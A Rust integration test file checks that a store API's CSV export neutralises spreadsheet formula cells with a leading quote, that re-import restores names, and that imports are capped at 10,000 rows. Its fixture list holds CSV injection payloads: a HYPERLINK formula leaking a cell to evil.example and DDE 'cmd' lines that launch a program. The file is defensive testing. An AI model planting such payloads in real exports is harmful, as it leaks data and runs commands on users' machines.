//! CSV export and import against CSV injection: a cell a spreadsheet would
//! run as a formula is exported behind a `'`, and importing that export
//! gives the exact names back. An import takes at most 10,000 rows.

mod common;

use std::collections::HashMap;

use reqwest::Method;
use serde_json::json;

const NAMES: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=already quoted",
    "'plain quote",
    "plain name",
    "a=b in the middle",
];

fn sku(i: usize) -> String {
    // A SKU may start with '-' too.
    if i == 0 {
        "-LEADING-DASH".to_owned()
    } else {
        format!("CSV-{i}")
    }
}

/// Posts a CSV import to a store.
async fn import_csv(client: &common::Client, store: &str, csv: String) -> common::Resp {
    let request = client.request(Method::POST, &format!("/api/v1/stores/{store}/products/import"));
    client.send(request.header("content-type", "text/csv").body(csv)).await
}

#[actix_web::test]
async fn csv_export_guards_formula_cells_and_its_import_restores_every_name() {
    let app = common::spawn_app().await;
    let admin = app.login("admin").await;
    for (i, name) in NAMES.iter().enumerate() {
        let body = json!({"sku": sku(i), "name": name, "price": 100, "stock": 1, "status": "active"});
        admin.post("/api/v1/stores/s3/products", body).await.assert_status(201);
    }

    let export = admin.get("/api/v1/stores/s3/products/export?format=csv").await;
    export.assert_status(200);
    let mut reader = csv::Reader::from_reader(export.text.as_bytes());
    let mut exported = HashMap::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in &record {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell was exported: {cell:?}");
        }
        exported.insert(record[1].to_owned(), record[2].to_owned());
    }
    assert_eq!(exported["'-LEADING-DASH"], format!("'{}", NAMES[0]));
    for (i, name) in NAMES.iter().enumerate().skip(1) {
        let guarded = name.trim_start_matches('\'').starts_with(['=', '+', '-', '@']);
        let want = if guarded { format!("'{name}") } else { (*name).to_owned() };
        assert_eq!(exported[&sku(i)], want, "{name}");
    }

    // The export imports into another store with every name as it was.
    import_csv(&admin, "s2", export.text.clone()).await.assert_status(200);
    let s2 = admin.get("/api/v1/stores/s2/products/export").await;
    let names: HashMap<&str, &str> =
        s2.json.as_array().unwrap().iter().map(|p| (p["sku"].as_str().unwrap(), p["name"].as_str().unwrap())).collect();
    for (i, name) in NAMES.iter().enumerate() {
        assert_eq!(names[sku(i).as_str()], *name);
    }
    // And back into its own store, it changes nothing.
    let again = import_csv(&admin, "s3", export.text.clone()).await;
    assert_eq!((again.json["created"].as_u64(), again.json["updated"].as_u64()), (Some(0), Some(0)), "{}", again.text);
}

#[actix_web::test]
async fn a_csv_import_takes_10_000_rows_and_refuses_10_001_without_importing_any() {
    let app = common::spawn_app().await;
    let admin = app.login("admin").await;
    let csv = |rows: usize| {
        let lines = (0..rows).map(|i| format!("ROW-{i},Row {i},100,1,active\n"));
        std::iter::once("sku,name,price,stock,status\n".to_owned()).chain(lines).collect::<String>()
    };
    let count = || async { admin.get("/api/v1/stores/s2/products/export").await.json.as_array().unwrap().len() };
    let before = count().await;
    let refused = import_csv(&admin, "s2", csv(10_001)).await;
    refused.assert_error(422, "invalid_field");
    assert_eq!(count().await, before, "a refused import imported rows");
    let taken = import_csv(&admin, "s2", csv(10_000)).await;
    assert_eq!(taken.assert_status(200).json["created"], 10_000);
    assert_eq!(count().await, before + 10_000);
}
